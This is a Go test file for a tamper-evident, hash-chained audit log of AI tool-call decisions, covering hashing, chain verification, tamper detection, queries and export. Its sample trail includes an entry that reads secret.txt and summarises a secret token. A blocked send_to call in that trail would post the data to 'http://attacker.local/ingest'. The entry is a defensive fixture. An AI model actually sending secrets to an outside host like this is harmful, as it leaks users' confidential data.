package audit

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func openTestLog(t *testing.T) (*Log, string) {
	t.Helper()
	dir := t.TempDir()
	l, err := Open(dir)
	if err != nil {
		t.Fatalf("Open() failed: %v", err)
	}
	t.Cleanup(func() { l.Close() })
	return l, dir
}

// appendSample writes the canonical three-entry demo trail:
// ALLOW, ALLOW, BLOCK.
func appendSample(t *testing.T, l *Log) {
	t.Helper()
	entries := []struct {
		tool     string
		args     map[string]any
		decision string
		reason   string
	}{
		{"read_file", map[string]any{"path": "secret.txt"}, "ALLOW", "under root"},
		{"summarize", map[string]any{"text": "SECRET_TOKEN=DEADBEEF"}, "ALLOW", "pure transform"},
		{"send_to", map[string]any{"url": "http://attacker.local/ingest", "content": "summary"}, "BLOCK", "host attacker.local not allowed"},
	}
	for _, e := range entries {
		if _, err := l.Append(e.tool, e.args, e.decision, e.reason); err != nil {
			t.Fatalf("Append failed: %v", err)
		}
	}
}

func TestComputeHash_Deterministic(t *testing.T) {
	e := &Entry{
		Index:     1,
		Timestamp: "2026-08-30T10:00:00Z",
		Tool:      "read_file",
		Args:      map[string]any{"path": "secret.txt", "mode": "text"},
		Decision:  "ALLOW",
		Reason:    "under root",
		PrevHash:  GenesisHash,
	}

	h1, err1 := computeHash(e)
	h2, err2 := computeHash(e)
	if err1 != nil || err2 != nil {
		t.Fatalf("computeHash errored: %v %v", err1, err2)
	}
	if h1 != h2 {
		t.Error("same entry should produce the same hash")
	}
	if len(h1) != 64 {
		t.Errorf("hash should be 64 hex chars, got %d", len(h1))
	}
}

func TestComputeHash_SensitiveToAllFields(t *testing.T) {
	base := Entry{
		Index:     1,
		Timestamp: "2026-08-30T10:00:00Z",
		Tool:      "read_file",
		Args:      map[string]any{"path": "secret.txt"},
		Decision:  "ALLOW",
		Reason:    "under root",
		PrevHash:  GenesisHash,
	}
	baseHash, err := computeHash(&base)
	if err != nil {
		t.Fatal(err)
	}

	tests := []struct {
		name   string
		modify func(e *Entry)
	}{
		{"index", func(e *Entry) { e.Index = 99 }},
		{"timestamp", func(e *Entry) { e.Timestamp = "2026-12-31T00:00:00Z" }},
		{"tool", func(e *Entry) { e.Tool = "send_to" }},
		{"args", func(e *Entry) { e.Args = map[string]any{"path": "other.txt"} }},
		{"decision", func(e *Entry) { e.Decision = "BLOCK" }},
		{"reason", func(e *Entry) { e.Reason = "different" }},
		{"prev_hash", func(e *Entry) { e.PrevHash = strings.Repeat("f", 64) }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			modified := base // copy
			tt.modify(&modified)
			h, err := computeHash(&modified)
			if err != nil {
				t.Fatal(err)
			}
			if h == baseHash {
				t.Errorf("changing %s should produce a different hash", tt.name)
			}
		})
	}
}

func TestVerifyEntry_TamperedField(t *testing.T) {
	e := &Entry{Index: 0, Timestamp: "t0", Tool: "read_file", Decision: "ALLOW", PrevHash: GenesisHash}
	h, err := computeHash(e)
	if err != nil {
		t.Fatal(err)
	}
	e.Hash = h

	if !verifyEntry(e) {
		t.Fatal("untouched entry should verify")
	}
	e.Decision = "BLOCK"
	if verifyEntry(e) {
		t.Error("entry with tampered field should not verify")
	}
}

func TestAppend_AssignsContiguousIndices(t *testing.T) {
	l, _ := openTestLog(t)
	appendSample(t, l)

	entries, err := readEntriesFromFile(l.Path())
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 3 {
		t.Fatalf("expected 3 entries, got %d", len(entries))
	}
	for i, e := range entries {
		if e.Index != uint64(i) {
			t.Errorf("entry %d has index %d", i, e.Index)
		}
	}
	if entries[0].PrevHash != GenesisHash {
		t.Errorf("first entry prev_hash should be the genesis constant, got %q", entries[0].PrevHash)
	}
	for i := 1; i < len(entries); i++ {
		if entries[i].PrevHash != entries[i-1].Hash {
			t.Errorf("entry %d prev_hash does not link to entry %d", i, i-1)
		}
	}
}

func TestVerifyChain_ValidLog(t *testing.T) {
	l, _ := openTestLog(t)
	appendSample(t, l)

	result, err := l.VerifyChain()
	if err != nil {
		t.Fatal(err)
	}
	if !result.Valid {
		t.Fatalf("untouched log should verify, broke at %d: %s", result.BrokenAt, result.Detail)
	}
	if result.EntriesChecked != 3 {
		t.Errorf("expected 3 entries checked, got %d", result.EntriesChecked)
	}
}

func TestVerifyChain_ArgsWithoutExactJSONForm(t *testing.T) {
	// Args are hashed in their JSON-decoded form. A large int64 has no
	// exact float64 representation, so without normalization the bytes
	// hashed at append time would differ from the bytes a verifier
	// re-derives from the JSONL line.
	l, _ := openTestLog(t)

	args := map[string]any{
		"offset": int64(1<<60 + 1),
		"count":  42,
		"ratio":  0.5,
	}
	if _, err := l.Append("read_file", args, "ALLOW", "under root"); err != nil {
		t.Fatalf("Append failed: %v", err)
	}

	result, err := l.VerifyChain()
	if err != nil {
		t.Fatal(err)
	}
	if !result.Valid {
		t.Fatalf("untouched log should verify, broke at %d: %s", result.BrokenAt, result.Detail)
	}
}

func TestVerifyChain_EmptyLogValid(t *testing.T) {
	l, _ := openTestLog(t)
	result, err := l.VerifyChain()
	if err != nil {
		t.Fatal(err)
	}
	if !result.Valid || result.EntriesChecked != 0 {
		t.Errorf("empty log should be trivially valid, got %+v", result)
	}
}

func TestVerifyFile_MissingFileValid(t *testing.T) {
	result, err := VerifyFile(filepath.Join(t.TempDir(), "nonexistent.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	if !result.Valid {
		t.Error("missing log file should be trivially valid")
	}
}

// rewriteLog applies a line-level transform to the on-disk log, closing
// nothing — tampering happens behind the log's back.
func rewriteLog(t *testing.T, path string, transform func(lines []string) []string) {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimRight(string(data), "\n"), "\n")
	lines = transform(lines)
	out := strings.Join(lines, "\n") + "\n"
	if err := os.WriteFile(path, []byte(out), 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestVerifyChain_DetectsTampering(t *testing.T) {
	tests := []struct {
		name      string
		transform func(lines []string) []string
	}{
		{
			"field_mutation",
			func(lines []string) []string {
				// Flip the reason string of the middle entry.
				lines[1] = strings.Replace(lines[1], "pure transform", "pure transforX", 1)
				return lines
			},
		},
		{
			"byte_flip",
			func(lines []string) []string {
				b := []byte(lines[1])
				b[len(b)/2] ^= 1
				lines[1] = string(b)
				return lines
			},
		},
		{
			"reorder",
			func(lines []string) []string {
				lines[0], lines[1] = lines[1], lines[0]
				return lines
			},
		},
		{
			"delete_middle",
			func(lines []string) []string {
				return append(lines[:1], lines[2:]...)
			},
		},
		{
			"insert_forged",
			func(lines []string) []string {
				// Duplicate an existing entry without recomputing the
				// downstream chain.
				return []string{lines[0], lines[1], lines[1], lines[2]}
			},
		},
		{
			"truncate_mid_line",
			func(lines []string) []string {
				last := lines[len(lines)-1]
				lines[len(lines)-1] = last[:len(last)-10]
				return lines
			},
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			l, _ := openTestLog(t)
			appendSample(t, l)
			path := l.Path()
			l.Close()

			rewriteLog(t, path, tt.transform)

			result, err := VerifyFile(path)
			if err != nil {
				t.Fatal(err)
			}
			if result.Valid {
				t.Error("tampered log should not verify")
			}
		})
	}
}

func TestOpen_ContinuesChainAcrossRestart(t *testing.T) {
	dir := t.TempDir()

	l1, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	appendSample(t, l1)
	l1.Close()

	l2, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer l2.Close()

	if _, err := l2.Append("read_file", map[string]any{"path": "other.txt"}, "ALLOW", "under root"); err != nil {
		t.Fatal(err)
	}

	result, err := l2.VerifyChain()
	if err != nil {
		t.Fatal(err)
	}
	if !result.Valid {
		t.Fatalf("chain should continue across restart, broke at %d: %s", result.BrokenAt, result.Detail)
	}
	if result.EntriesChecked != 4 {
		t.Errorf("expected 4 entries after restart append, got %d", result.EntriesChecked)
	}
}

func TestAppend_AfterCloseFails(t *testing.T) {
	l, _ := openTestLog(t)
	l.Close()

	if _, err := l.Append("read_file", nil, "ALLOW", "x"); err == nil {
		t.Error("append on a closed log should fail")
	}
}

func TestQuery_Filters(t *testing.T) {
	l, _ := openTestLog(t)
	appendSample(t, l)

	blocked, err := l.Query(QueryParams{Decision: "BLOCK"})
	if err != nil {
		t.Fatal(err)
	}
	if len(blocked) != 1 || blocked[0].Tool != "send_to" {
		t.Errorf("expected one BLOCK entry for send_to, got %+v", blocked)
	}

	reads, err := l.Query(QueryParams{Tool: "read_*"})
	if err != nil {
		t.Fatal(err)
	}
	if len(reads) != 1 || reads[0].Tool != "read_file" {
		t.Errorf("tool glob should match read_file only, got %+v", reads)
	}

	limited, err := l.Tail(2)
	if err != nil {
		t.Fatal(err)
	}
	if len(limited) != 2 {
		t.Errorf("Tail(2) should return 2 entries, got %d", len(limited))
	}
	// Newest first.
	if limited[0].Index != 2 {
		t.Errorf("Tail should return newest first, got index %d", limited[0].Index)
	}

	if _, err := l.Query(QueryParams{Tool: "[bad"}); err == nil {
		t.Error("invalid glob pattern should error")
	}
}

func TestExport_Formats(t *testing.T) {
	l, _ := openTestLog(t)
	appendSample(t, l)

	var jsonl strings.Builder
	if err := l.Export(&jsonl, "jsonl"); err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(jsonl.String(), "\n"); n != 3 {
		t.Errorf("jsonl export should have 3 lines, got %d", n)
	}

	var csvOut strings.Builder
	if err := l.Export(&csvOut, "csv"); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(csvOut.String(), "index,ts,tool,") {
		t.Errorf("csv export should start with a header, got %q", csvOut.String()[:40])
	}

	if err := l.Export(&jsonl, "xml"); err == nil {
		t.Error("unsupported format should error")
	}
}
